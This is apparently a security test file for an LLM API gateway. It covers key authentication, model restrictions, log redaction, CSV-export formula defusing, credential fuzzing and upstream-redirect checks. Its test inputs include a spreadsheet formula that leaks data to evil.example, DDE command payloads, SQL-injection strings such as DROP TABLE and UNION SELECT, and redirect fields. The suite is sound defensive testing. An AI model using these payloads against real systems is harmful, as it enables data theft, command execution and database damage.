import http from "node:http";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { ApiKeyView } from "@/lib/api/keys";
import type { LabStatus } from "@/lib/api/status";
import type { SimState } from "@/lib/sim/state";
import { simulatedLabYaml, startAppHarness, type AppHarness } from "@/lib/testing/app-harness";
import { databaseBytes, parseCsv, parseOpenAiError, startRecordingListener, waitFor, type OpenAiErrorBody } from "./test-support";

/**
 * The gateway's door (/v1) of the whole application with `auth: keys`: keys are made and revoked through the
 * admin API with the admin token, the way an operator's script would, and used over real HTTP.
 */

const TOKEN = "security-suite-admin-token-fedcba9876543210";
const asAdmin = { authorization: `Bearer ${TOKEN}` };
const messages = [{ role: "user", content: "hello" }];

let app: AppHarness;

beforeAll(async () => {
  app = await startAppHarness({
    yaml: (ports) => simulatedLabYaml(ports).replace("auth: open", "auth: keys"),
    adminSecrets: { token: TOKEN },
  });
  // The watchdog may restart a backend that was slow to come up; these tests need a lab that holds still.
  for (const id of ["qwen-7b", "qwen-14b", "embed"]) {
    expect((await admin(`/api/backends/${id}/watchdog`, { method: "PUT", body: { enabled: false } })).status).toBe(200);
  }
  await waitFor(async () => {
    const lab = (await admin("/api/status")).body as { data: LabStatus };
    return lab.data.operation === null && lab.data.backends.filter((b) => b.inCurrentMode && b.state === "ready").length === 3;
  }, "the standard backends ready");
}, 90_000);

afterAll(async () => {
  await app?.close();
});

async function admin(path: string, init: { method?: string; body?: unknown } = {}): Promise<{ status: number; body: unknown }> {
  const response = await fetch(`${app.url}${path}`, {
    method: init.method ?? "GET",
    headers: { ...asAdmin, ...(init.body !== undefined ? { "content-type": "application/json" } : {}) },
    body: init.body === undefined ? undefined : JSON.stringify(init.body),
  });
  const text = await response.text();
  return { status: response.status, body: text.startsWith("{") ? (JSON.parse(text) as unknown) : text };
}

async function createKey(name: string, allowedModels: string[] = []): Promise<{ key: string; apiKey: ApiKeyView }> {
  const created = await admin("/api/keys", { method: "POST", body: { name, allowedModels } });
  expect(created.status).toBe(201);
  return (created.body as { data: { key: string; apiKey: ApiKeyView } }).data;
}

interface V1Answer {
  status: number;
  headers: Headers;
  text: string;
  error: OpenAiErrorBody | null;
}

async function v1(path: string, init: { method?: string; headers?: Record<string, string>; body?: unknown } = {}): Promise<V1Answer> {
  const response = await fetch(`${app.url}${path}`, {
    method: init.method ?? (init.body === undefined ? "GET" : "POST"),
    headers: { ...(init.body !== undefined ? { "content-type": "application/json" } : {}), ...init.headers },
    body: init.body === undefined ? undefined : JSON.stringify(init.body),
    signal: AbortSignal.timeout(30_000),
  });
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, error: parseOpenAiError(text) };
}

const chat = (headers: Record<string, string>, body: Record<string, unknown> = {}) =>
  v1("/v1/chat/completions", { headers, body: { model: "fast", messages, max_tokens: 8, ...body } });

const modelIds = (answer: V1Answer) => (JSON.parse(answer.text) as { data: { id: string }[] }).data.map((card) => card.id);

describe("API keys at the gateway", () => {
  test("no key -> 401 in OpenAI's error shape", async () => {
    for (const answer of [await chat({}), await v1("/v1/models"), await v1("/v1/completions", { body: { model: "fast", prompt: "hi" } })]) {
      expect(answer.status).toBe(401);
      expect(answer.error).toEqual({ error: { message: expect.any(String), type: "authentication_error", param: null, code: "missing_api_key" } });
    }
  });

  test("a key works as Authorization: Bearer and as x-api-key", async () => {
    const { key } = await createKey("both-headers");
    const presented: Record<string, string>[] = [{ authorization: `Bearer ${key}` }, { "x-api-key": key }];
    for (const headers of presented) {
      const answer = await chat(headers);
      expect(answer.status).toBe(200);
      expect(answer.headers.get("x-switchyard-backend")).toBe("qwen-7b");
      expect((await v1("/v1/models", { headers })).status).toBe(200);
    }
  });

  test("a key limited to `fast` gets 403 on `reasoning`, and its model list shows only `fast`", async () => {
    const { key } = await createKey("fast-only", ["fast"]);
    const headers = { authorization: `Bearer ${key}` };
    expect((await chat(headers)).status).toBe(200);
    for (const model of ["reasoning", "auto", "qwen2.5-14b-instruct-awq", "qwen2.5-7b-instruct"]) {
      const refused = await chat(headers, { model });
      expect(refused.status).toBe(403);
      expect(refused.error?.error).toMatchObject({ type: "permission_error", code: "model_not_allowed", param: "model" });
    }
    const models = await v1("/v1/models", { headers });
    expect(models.status).toBe(200);
    expect(modelIds(models)).toEqual(["fast"]);
    expect((await v1("/v1/models/reasoning", { headers })).status).toBe(404);
    expect((await v1("/v1/models/fast", { headers })).status).toBe(200);
    // An unrestricted key sees more, so the list above was really filtered.
    const { key: everything } = await createKey("everything");
    expect(modelIds(await v1("/v1/models", { headers: { "x-api-key": everything } }))).toEqual(expect.arrayContaining(["fast", "reasoning", "auto"]));
  });

  test("a revoked key -> 401", async () => {
    const { key, apiKey } = await createKey("soon-revoked");
    const headers = { "x-api-key": key };
    expect((await chat(headers)).status).toBe(200);
    expect((await admin(`/api/keys/${apiKey.id}/revoke`, { method: "POST" })).status).toBe(200);
    for (const answer of [await chat(headers), await chat({ authorization: `Bearer ${key}` }), await v1("/v1/models", { headers })]) {
      expect(answer.status).toBe(401);
      expect(answer.error?.error).toMatchObject({ type: "authentication_error", code: "invalid_api_key" });
    }
  });
});

describe("the request log", () => {
  test("rows record the key's id and name, and never the key (rows, list, CSV export, database file)", async () => {
    const { key, apiKey } = await createKey("log-checker");
    const typo = `${key.slice(0, -1)}${key.endsWith("A") ? "B" : "A"}`;
    const answers = [
      await chat({ authorization: `Bearer ${key}` }),
      await chat({ "x-api-key": key }, { stream: true }),
      await chat({ "x-api-key": key }, { model: "no-such-model" }),
      await chat({ authorization: `Bearer ${typo}` }),
    ];
    expect(answers.map((a) => a.status)).toEqual([200, 200, 404, 401]);
    await app.switchyard.requestLog.flush();

    const rows: Record<string, unknown>[] = [];
    for (const answer of answers) {
      const id = answer.headers.get("x-request-id") ?? "";
      const found = await admin(`/api/requests/${encodeURIComponent(id)}`);
      expect(found.status).toBe(200);
      rows.push((found.body as { data: Record<string, unknown> }).data);
    }
    for (const row of rows.slice(0, 3)) expect(row).toMatchObject({ apiKeyId: apiKey.id, apiKeyName: "log-checker" });
    expect(rows[3]).toMatchObject({ apiKeyId: null, apiKeyName: null, status: 401 });

    const secrets = [key, key.slice(12), typo, typo.slice(12)];
    const listed = await admin("/api/requests?limit=500");
    const exported = await admin("/api/requests/export");
    expect(exported.status).toBe(200);
    const views = [JSON.stringify(rows), JSON.stringify(listed.body), String(exported.body)];
    for (const secret of secrets) for (const view of views) expect(view.includes(secret)).toBe(false);
    // The scan is looking at the right text: every view holds these requests.
    const firstId = answers[0]?.headers.get("x-request-id") ?? "";
    expect(views.every((view) => view.includes(firstId))).toBe(true);
    expect(views.slice(0, 2).every((view) => view.includes(apiKey.id))).toBe(true);

    const bytes = databaseBytes(app.switchyard.dbFile);
    expect(bytes.includes(Buffer.from(apiKey.prefix))).toBe(true);
    for (const secret of secrets) expect(bytes.includes(Buffer.from(secret))).toBe(false);
  });

  test("the CSV export defuses spreadsheet formulas that any client can plant through its User-Agent or model name", async () => {
    const formulas = ['=HYPERLINK("https://evil.example/?leak="&A2,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
    // No key needed: refused requests are logged too, with the User-Agent they sent.
    const planted: V1Answer[] = [];
    for (const formula of formulas) {
      planted.push(await v1("/v1/chat/completions", { headers: { "user-agent": formula }, body: { model: formula, messages } }));
    }
    const { key } = await createKey("formula-planter");
    planted.push(await chat({ "x-api-key": key, "user-agent": formulas[0] ?? "" }, { model: formulas[3] }));
    await app.switchyard.requestLog.flush();
    const exported = await admin("/api/requests/export");
    expect(exported.status).toBe(200);
    const rows = parseCsv(String(exported.body));
    const ours = planted.map((answer) => rows.find((row) => row[0] === answer.headers.get("x-request-id")));
    expect(ours.every((row) => row !== undefined)).toBe(true);
    expect(ours.flat().join("\n")).toContain(formulas[1]); // the planted text is there, the scan is not blind
    // A cell a spreadsheet evaluates: one that starts with = + - @ (or a tab / carriage return before them).
    const dangerous = ours.flatMap((row) => row ?? []).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
  });
});

describe("fuzzed credentials", () => {
  // What undici lets a client put in a header value: HTAB, printable ASCII and the bytes 0x80-0xFF (among them
  // the C1 control characters). NUL, CR, LF and the other C0 controls are refused by the client itself.
  const headerChar = fc.oneof(
    fc.constant("\t"),
    fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)),
    fc.integer({ min: 0x80, max: 0xff }).map((code) => String.fromCharCode(code)),
  );
  const headerText = fc.string({ unit: headerChar, maxLength: 200 });
  // Unicode as a real client sends it: UTF-8 bytes, which Node's server reads back as latin1.
  // (C0 controls left out: their UTF-8 byte is the same one the client refuses above.)
  const codePoint = fc
    .integer({ min: 0x20, max: 0x10ffff })
    .filter((code) => code !== 0x7f && (code < 0xd800 || code > 0xdfff))
    .map((code) => String.fromCodePoint(code));
  const unicodeText = fc.string({ unit: codePoint, minLength: 1, maxLength: 60 }).map((text) => Buffer.from(text, "utf8").toString("latin1"));
  const sql = fc.constantFrom(
    "' OR '1'='1",
    "' OR 1=1 --",
    "sy-aaaaaaaa-' OR '1'='1' --aaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    '"; DROP TABLE "ApiKey"; --',
    "x' UNION SELECT hash FROM ApiKey --",
    "%' OR hash LIKE '%",
    "sy-%",
    "sy-________-___________________________________________",
    "\\' OR \\'\\'=\\'",
    "1; SELECT sqlite_version()",
  );
  const huge = fc.constantFrom(1_000, 8_000, 20_000, 1 << 20).chain((size) => fc.constantFrom("A", "sy-", "' OR ", "\t\u0085").map((unit) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size)));
  const wellFormedUnknown = fc.stringMatching(/^sy-[a-z2-7]{8}-[A-Za-z0-9_-]{43}$/);

  test("fuzzed Authorization / x-api-key values (SQL, 1 MB strings, control characters, unicode) -> 401, never 500", async () => {
    const { key } = await createKey("fuzz-target");
    const nearMisses = fc.constantFrom(
      `${key} `.slice(0, -2),
      `${key}x`,
      key.toUpperCase(),
      key.slice(0, 11),
      `${key.slice(0, 20)}\t${key.slice(20)}`,
      `${key}'--`,
      `sy-${key.slice(3).replace(/./, "_")}`,
    );
    const value = fc.oneof(
      { arbitrary: headerText, weight: 4 },
      { arbitrary: unicodeText, weight: 2 },
      { arbitrary: sql, weight: 2 },
      { arbitrary: wellFormedUnknown, weight: 2 },
      { arbitrary: nearMisses, weight: 2 },
      { arbitrary: huge, weight: 1 },
    );
    const scheme = fc.constantFrom("", "Bearer ", "bearer ", "Basic ", "Bearer\t", "Bearer  ");
    const maxHeaderBytes = http.maxHeaderSize;
    let refusedByServer = 0;
    await fc.assert(
      fc.asyncProperty(fc.constantFrom("authorization", "x-api-key"), scheme, value, fc.boolean(), async (header, prefix, text, listModels) => {
        const headers = { [header]: `${prefix}${text}` };
        const answer = listModels ? await v1("/v1/models", { headers }) : await chat(headers);
        // Node's HTTP server (also under `next start`) refuses a header section past its limit before any app code.
        if (Buffer.byteLength(headers[header] ?? "", "latin1") > maxHeaderBytes) {
          expect(answer.status).toBe(431);
          refusedByServer += 1;
          return;
        }
        expect(answer.status).toBe(401);
        expect(answer.error?.error.type).toBe("authentication_error");
        expect(["missing_api_key", "invalid_api_key"]).toContain(answer.error?.error.code);
      }),
      { numRuns: 150 },
    );
    console.log(`[fuzz] ${refusedByServer} of 150 credentials were larger than Node's ${maxHeaderBytes}-byte header limit (431 from the HTTP server)`);
    // The real key still works after all that.
    expect((await chat({ authorization: `Bearer ${key}` })).status).toBe(200);
  });
});

describe("the upstream cannot be redirected from the request body", () => {
  test("api_base, base_url, url, host (and friends) pointing at another local port change nothing: the listener sees nothing, the simulator serves it", async () => {
    const listener = await startRecordingListener();
    try {
      const { key } = await createKey("redirector");
      const target = listener.url;
      const redirects = {
        api_base: target,
        base_url: `${target}/v1`,
        url: `${target}/v1/chat/completions`,
        host: `127.0.0.1:${listener.port}`,
        baseURL: `${target}/v1`,
        api_url: target,
        endpoint: `${target}/v1/chat/completions`,
        upstream: target,
        extra_body: { api_base: target, base_url: target },
      };
      const headers = { authorization: `Bearer ${key}` };
      const answers = [
        await chat(headers, redirects),
        await chat(headers, { ...redirects, stream: true }),
        await v1("/v1/completions", { headers, body: { model: "fast", prompt: "hello", max_tokens: 4, ...redirects } }),
      ];
      const simState = async () => (await (await fetch(`http://127.0.0.1:${app.ports["qwen-7b"]}/_sim/state`)).json()) as SimState;
      const seen = new Set((await simState()).recentRequests.map((r) => r.xRequestId));
      for (const answer of answers) {
        expect(answer.status).toBe(200);
        expect(answer.headers.get("x-switchyard-backend")).toBe("qwen-7b");
        expect(seen.has(answer.headers.get("x-request-id"))).toBe(true);
      }
      // Give a stray connection time to arrive before declaring there was none.
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(listener.connections()).toBe(0);
      expect(listener.requests()).toEqual([]);
    } finally {
      await listener.close();
    }
  });
});
